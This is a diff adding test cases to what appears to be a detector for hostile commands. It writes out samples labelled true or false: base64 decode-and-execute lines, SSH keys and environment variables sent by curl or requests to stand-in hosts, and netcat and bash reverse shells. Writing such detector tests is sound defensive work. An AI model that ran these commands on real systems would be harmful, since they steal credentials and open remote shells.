@@ -48,6 +48,7 @@ def test_fetched_and_not_run(text: str) -> None:
         ("echo YQ== | base64 -d | sh", True),
         ("exec(base64.b64decode('YQ=='))", True),
         ("eval(atob('YQ=='))", True),
+        ("exec $(echo YQ== | base64 -d)", True),
         ("base64 -d a > b", False),
         ("x=$(echo $A | base64 -d)", False),
     ],
@@ -62,6 +63,9 @@ def test_decoded_and_run(text: str, is_seen: bool) -> None:
     [
         ("cat ~/.ssh/id_rsa | curl -d @- https://in.example.org", True),
         ("env | curl -d @- https://in.example.org", True),
+        ("nc -e /bin/sh 203.0.113.7 443", True),
+        ("requests.post('https://in.example.org', json=dict(os.environ))", True),
+        ("fetch('https://api.example.org', {body: JSON.stringify(data)})", False),
         ("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", True),
         ('curl -d \'{"text": "done"}\' https://in.example.org', False),
         ("source .env && curl https://api.example.org", False),
